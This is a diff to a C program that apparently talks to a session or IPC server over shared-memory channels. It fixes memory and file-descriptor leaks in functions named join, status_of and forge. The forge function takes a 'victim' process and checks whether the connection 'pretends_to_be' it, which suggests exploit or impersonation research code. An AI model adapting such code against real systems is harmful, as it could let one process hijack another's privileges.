@@ -146,12 +146,14 @@ static int join(struct chan_area **area)
     int fd = session_connect();
 
     *area = NULL;
-    if (fd < 0 || session_exchange(fd, &request, &reply, &memory) < 0 || memory < 0) {
-        if (fd >= 0)
-            close(fd);
+    if (fd < 0)
+        return -1;
+    NTSTATUS status = session_exchange(fd, &request, &reply, &memory);
+    free(reply.data);
+    if (status < 0 || memory < 0) {
+        close(fd);
         return -1;
     }
-    free(reply.data);
     *area = mmap(NULL, CHAN_SEGMENT0_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
     close(memory);
     return fd;
@@ -499,7 +501,8 @@ static uint32_t status_of(int fd, uint32_t op, const void *extra, size_t size)
     static uint8_t answer[WIRE_MAX_PACKET];
 
     memcpy(packet, &header, sizeof header);
-    memcpy(packet + sizeof header, extra, size);
+    if (size > 0)
+        memcpy(packet + sizeof header, extra, size);
     if (send(fd, packet, sizeof header + size, MSG_NOSIGNAL) < 0 || recv(fd, answer, sizeof answer, 0) < (ssize_t)sizeof reply)
         return 0xFFFFFFFFu; /* hung up */
     memcpy(&reply, answer, sizeof reply);
@@ -548,6 +551,9 @@ static void forge(pid_t victim)
     int fd = session_connect(), own, none = -1;
 
     uint32_t connected = (uint32_t)session_exchange(fd, &request, &reply, &none);
+    free(reply.data);
+    if (none >= 0)
+        close(none);
     bool pretended = pretends_to_be(fd, victim);
     close(fd);
     uint32_t segment = alone(WIRE_SEGMENT, NULL, 0), channel = alone(WIRE_CHANNEL, NULL, 0), called = alone(WIRE_CALL, &call, sizeof call);
